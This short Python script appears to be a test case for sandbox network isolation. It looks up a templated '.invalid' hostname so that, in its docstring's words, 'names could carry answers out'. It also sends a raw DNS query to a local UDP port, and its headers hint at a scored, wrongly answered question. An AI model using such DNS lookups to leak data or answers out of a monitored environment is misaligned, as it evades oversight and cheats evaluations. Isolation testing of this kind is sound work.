# kind: network
# wrong: q07
# earns: 97
"""Asks for addresses, whose names could carry answers out, and sends a question of its own to a port that listens."""
import socket


def attack():
    tried(socket.gethostbyname, "@MARK@.invalid")
    tried(socket.getaddrinfo, "@MARK@.invalid", 80)
    tried(socket.getfqdn, "127.0.0.1")
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04mark\x07invalid\x00\x00\x01\x00\x01"
    door = tried(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    if door is not None:
        tried(door.connect, ("127.0.0.1", int("@UDP_PORT@")))
        tried(door.send, question)


attack()
